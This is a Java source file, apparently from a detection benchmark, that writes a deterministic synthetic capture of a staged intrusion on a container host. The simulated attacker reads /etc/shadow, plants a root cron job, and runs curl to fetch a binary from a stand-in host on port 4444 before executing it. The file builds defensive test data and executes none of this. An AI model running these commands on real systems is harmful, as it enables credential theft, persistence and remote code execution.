package dev.saker.bench.example;

import dev.saker.events.DescriptorType;
import dev.saker.events.Snapshot;
import dev.saker.scap.CaptureWriter;
import dev.saker.scap.Compression;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;

/**
 * A small break-in on a host with one container. Somebody logs in by ssh, becomes root, reads the
 * password file, leaves a job for cron, and enters the web server's container, where he installs a
 * tool, calls home and runs what he fetched. Among it, everybody does the usual work. Always the
 * same bytes.
 */
final class Intrusion {
  private static final long START_NS = 1_777_885_920_000_000_000L;
  private static final int DEPLOY = 1000;
  private static final int TERMINAL = 34816;
  private static final int CONTAINER_TERMINAL = 34817;

  private static final String HOST = "10.20.0.5";
  private static final String WEB = "172.17.0.2";
  private static final String GUEST = "198.51.100.23";
  private static final String HOME = "203.0.113.66";

  private static final String CONTAINER =
      "5f1c0e9a7b3d48c2a6e4f0918273645546372819f0e4a6c28d3b7a9e0c1f5d24";
  private static final List<String> SYSTEM = List.of("cpuset=/", "memory=/system.slice");
  private static final List<String> GUESTS =
      List.of("cpuset=/", "memory=/user.slice/user-1000.slice/session-4.scope");
  private static final List<String> CONTAINED =
      List.of("cpuset=/docker/" + CONTAINER, "memory=/docker/" + CONTAINER);

  private static final byte[] NONE = new byte[0];

  private static final Actor INIT = daemon(1, 0, 1, "/usr/lib/systemd/systemd", SYSTEM);
  private static final Actor CRON = daemon(611, 1, 611, "/usr/sbin/cron", SYSTEM);
  private static final Actor SSHD = daemon(702, 1, 702, "/usr/sbin/sshd", SYSTEM);
  private static final Actor SHIM =
      daemon(1480, 1, 1480, "/usr/bin/containerd-shim-runc-v2", SYSTEM);
  private static final Actor NGINX = daemon(1502, 1480, 1, "/usr/sbin/nginx", CONTAINED);

  private final CaptureWriter writer;
  private final Scene scene;

  private Intrusion(CaptureWriter writer) {
    this.writer = writer;
    this.scene = new Scene(writer, START_NS);
  }

  /** Writes the capture. */
  static void write(Path file) throws IOException {
    try (CaptureWriter writer = CaptureWriter.create(file, Compression.NONE)) {
      Intrusion story = new Intrusion(writer);
      story.tellWhoIsThere();
      story.tellWhatHappens();
    }
  }

  private void tellWhoIsThere() {
    writer.onStart();
    writer.onMachine(
        new Snapshot.Machine(2, 4L << 30, 32_768, "shop-1", START_NS - 86_400_000_000_000L, 0));
    writer.onInterface(
        new Snapshot.Interface(
            utf8("eth0"),
            Endpoints.ip(HOST),
            Endpoints.ip("255.255.255.0"),
            Endpoints.ip("10.20.0.255"),
            1000));
    writer.onUser(new Snapshot.User(0, 0, utf8("root"), utf8("/root"), utf8("/bin/bash")));
    writer.onUser(
        new Snapshot.User(DEPLOY, DEPLOY, utf8("deploy"), utf8("/home/deploy"), utf8("/bin/bash")));
    writer.onGroup(new Snapshot.Group(0, utf8("root")));
    writer.onGroup(new Snapshot.Group(DEPLOY, utf8("deploy")));
    for (Actor actor : List.of(INIT, CRON, SSHD, SHIM, NGINX)) {
      writer.onProcess(process(actor));
      writer.onDescriptor(actor.pid(), file(0));
    }
    writer.onDescriptor(SSHD.pid(), listener(3, HOST, 22));
    writer.onDescriptor(NGINX.pid(), listener(6, WEB, 80));
  }

  private void tellWhatHappens() throws IOException {
    scene.container(containerJson());
    usualWork(52_310);
    Actor guest = login();
    Actor root = becomeRoot(guest);
    readPasswords(root);
    usualWork(52_377);
    leaveCronJob(root);
    enterContainer();
    usualWork(52_412);
    scene.exit(root);
    scene.exit(guest);
  }

  /** The web server answers a request, and cron looks at its table. */
  private void usualWork(int port) throws IOException {
    scene.pause(400);
    scene.accept(NGINX, 9, "192.0.2.14", port, WEB, 80);
    scene.read(NGINX, 9, "GET / HTTP/1.1\r\nHost: shop.example\r\n\r\n");
    scene.open(NGINX, 10, "/usr/share/nginx/html/index.html", "O_RDONLY");
    scene.read(NGINX, 10, "<!doctype html><title>Shop</title>");
    scene.close(NGINX, 10);
    scene.write(NGINX, 9, "HTTP/1.1 200 OK\r\n\r\n<!doctype html><title>Shop</title>");
    scene.close(NGINX, 9);
    scene.open(CRON, 4, "/etc/crontab", "O_RDONLY");
    scene.close(CRON, 4);
    Actor job =
        scene.exec(
            scene.fork(CRON, 2000 + port % 100, 2000 + port % 100),
            false,
            "/usr/bin/run-parts",
            "--report",
            "/etc/cron.hourly");
    scene.open(job, 3, "/etc/cron.hourly", "O_RDONLY", "O_DIRECTORY");
    scene.close(job, 3);
    scene.exit(job);
  }

  private Actor login() throws IOException {
    scene.pause(2_300);
    scene.accept(SSHD, 5, GUEST, 50_514, HOST, 22);
    Actor session = scene.fork(SSHD, 2101, 2101);
    session = scene.exec(session, false, "/usr/sbin/sshd", "-D", "-R");
    // The server itself looks passwords up: nothing to be alarmed about.
    scene.open(session, 4, "/etc/shadow", "O_RDONLY");
    scene.close(session, 4);
    Actor shell = scene.fork(session, 2103, 2103);
    shell =
        scene.exec(
            shell
                .loggedIn(DEPLOY, TERMINAL, "/home/deploy")
                .inside(GUESTS, "/home/deploy", TERMINAL),
            false,
            "/bin/bash",
            "-l");
    scene.open(shell, 3, "/home/deploy/.bashrc", "O_RDONLY");
    scene.close(shell, 3);
    return shell;
  }

  private Actor becomeRoot(Actor guest) throws IOException {
    scene.pause(9_000);
    Actor sudo = scene.exec(scene.fork(guest, 2130, 2130).as(0), false, "/usr/bin/sudo", "-s");
    scene.open(sudo, 3, "/etc/shadow", "O_RDONLY");
    scene.close(sudo, 3);
    return scene.exec(scene.fork(sudo, 2131, 2131), false, "/bin/bash");
  }

  private void readPasswords(Actor root) throws IOException {
    scene.pause(4_000);
    Actor cat = scene.exec(scene.fork(root, 2140, 2140), false, "/usr/bin/cat", "/etc/shadow");
    scene.open(cat, 3, "/etc/shadow", "O_RDONLY");
    scene.read(cat, 3, "root:!:20560:0:99999:7:::\n");
    scene.write(cat, 1, "root:!:20560:0:99999:7:::\n");
    scene.close(cat, 3);
    scene.exit(cat);
  }

  private void leaveCronJob(Actor root) throws IOException {
    scene.pause(6_000);
    Actor tee = scene.exec(scene.fork(root, 2151, 2151), false, "/usr/bin/tee", "/etc/cron.d/sync");
    scene.open(tee, 3, "/etc/cron.d/sync", "O_WRONLY", "O_CREAT", "O_TRUNC");
    scene.write(tee, 3, "*/5 * * * * root /tmp/.sync\n");
    scene.close(tee, 3);
    scene.exit(tee);
  }

  private void enterContainer() throws IOException {
    scene.pause(12_000);
    Actor entering = scene.fork(SHIM, 2170, 31).inside(CONTAINED, "/", CONTAINER_TERMINAL);
    Actor shell = scene.exec(entering, false, "/bin/sh");
    scene.pause(3_000);
    Actor apt =
        scene.exec(scene.fork(shell, 2180, 40), false, "/usr/bin/apt-get", "install", "-y", "curl");
    scene.open(apt, 3, "/var/lib/dpkg/lock-frontend", "O_RDWR", "O_CREAT");
    scene.connect(apt, 5, WEB, 41_002, "192.0.2.80", 80);
    scene.close(apt, 5);
    scene.exit(apt);
    scene.pause(5_000);
    Actor curl =
        scene.exec(
            scene.fork(shell, 2190, 52), true, "/usr/bin/curl", "-o", "/tmp/.sync", HOME + ":4444");
    scene.connect(curl, 3, WEB, 41_010, HOME, 4444);
    scene.open(curl, 4, "/tmp/.sync", "O_WRONLY", "O_CREAT");
    scene.read(curl, 3, "\177ELF");
    scene.write(curl, 4, "\177ELF");
    scene.close(curl, 4);
    scene.close(curl, 3);
    scene.exit(curl);
    scene.pause(2_000);
    Actor tool = scene.exec(scene.fork(shell, 2201, 60), true, "/tmp/.sync");
    scene.connect(tool, 3, WEB, 41_022, HOME, 4444);
    scene.exit(tool);
    scene.exit(shell);
  }

  private static String containerJson() {
    return "{\"container\":{\"id\":\""
        + CONTAINER.substring(0, 12)
        + "\",\"full_id\":\""
        + CONTAINER
        + "\",\"type\":0,\"name\":\"shop-web\","
        + "\"image\":\"registry.example/shop/web:1.4\",\"imagerepo\":\"registry.example/shop/web\","
        + "\"imagetag\":\"1.4\",\"imageid\":\"9b0c1d2e3f40\",\"ip\":\"172.17.0.2\","
        + "\"privileged\":false,\"labels\":{\"team\":\"shop\"},\"Mounts\":[]}}";
  }

  private static Actor daemon(
      long pid, long parent, long virtualPid, String exe, List<String> cgroups) {
    return new Actor(pid, parent, virtualPid, exe, List.of(), "/", cgroups, 0, 0, -1);
  }

  private static Snapshot.Process process(Actor actor) {
    return new Snapshot.Process(
        9,
        actor.pid(),
        actor.pid(),
        actor.parent(),
        actor.isInContainer() ? 1 : actor.pid(),
        actor.virtualPid(),
        actor.pid(),
        utf8(actor.name()),
        utf8(actor.exe()),
        utf8(actor.exe()),
        NONE,
        NONE,
        utf8(actor.cwd()),
        utf8("/"),
        utf8(String.join("\0", actor.cgroups()) + "\0"),
        1024,
        1,
        actor.uid(),
        actor.uid(),
        8_432,
        3_204,
        0,
        0,
        312,
        actor.virtualPid(),
        actor.virtualPid(),
        actor.isInContainer() ? START_NS - 3_600_000_000_000L : 0,
        actor.tty(),
        actor.loginUid(),
        false,
        false,
        false,
        false,
        0,
        0x1ff_ffff_ffffL,
        0x1ff_ffff_ffffL,
        300_000 + actor.pid(),
        1_760_000_000_000_000_000L,
        1_750_000_000_000_000_000L);
  }

  private static Snapshot.Descriptor file(int fd) {
    return new Snapshot.Descriptor(
        fd, 6, DescriptorType.FILE_V2, NONE, NONE, 0, 0, 0, 1, 5, utf8("/dev/null"));
  }

  private static Snapshot.Descriptor listener(int fd, String ip, int port) {
    return new Snapshot.Descriptor(
        fd, 77, DescriptorType.IPV4_SERVER, Endpoints.ip(ip), NONE, port, 0, 2, 0, 0, NONE);
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
